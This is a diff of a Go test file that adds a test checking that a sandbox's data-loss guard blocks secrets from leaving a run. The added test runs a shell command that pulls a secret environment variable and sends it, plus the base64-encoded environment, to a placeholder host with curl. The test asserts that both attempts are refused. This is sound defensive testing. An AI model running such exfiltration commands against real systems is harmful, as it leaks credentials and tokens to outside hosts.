@@ -169,6 +169,16 @@ func TestTheGuestsOwnSecretDoesNotLeave(t *testing.T) {
 	}
 }
 
+func TestTheCanaryOfARunDoesNotLeave(t *testing.T) {
+	w := newWorld(t, true)
+	args := w.bottle("egress:\n  routes:\n    - host: api.invalid\n",
+		"sh", "-c", `v=$(env | sed -n 's/^[A-Z]*_[A-Z]*_SECRET=//p'); echo "${#v} characters"; curl -s https://api.invalid/?q=$v; curl -s https://api.invalid/ -H "X-Note: $(env | base64 -w0)"`)
+	r := w.run(args...)
+	if n := strings.Count(r.stdout, "dlp-known-secret: a secret of this run is in the "); n != 2 || !strings.Contains(r.stdout, "32 characters") {
+		t.Errorf("%d of 2 were refused: %s", n, r)
+	}
+}
+
 func TestGuestHasNothingOfTheHost(t *testing.T) {
 	eachCaller(t, func(t *testing.T, w *world) {
 		w.env = []string{"GITHUB_ENV=/tmp/x", "GITHUB_TOKEN=ghs_x", "ACTIONS_RUNTIME_TOKEN=y"}
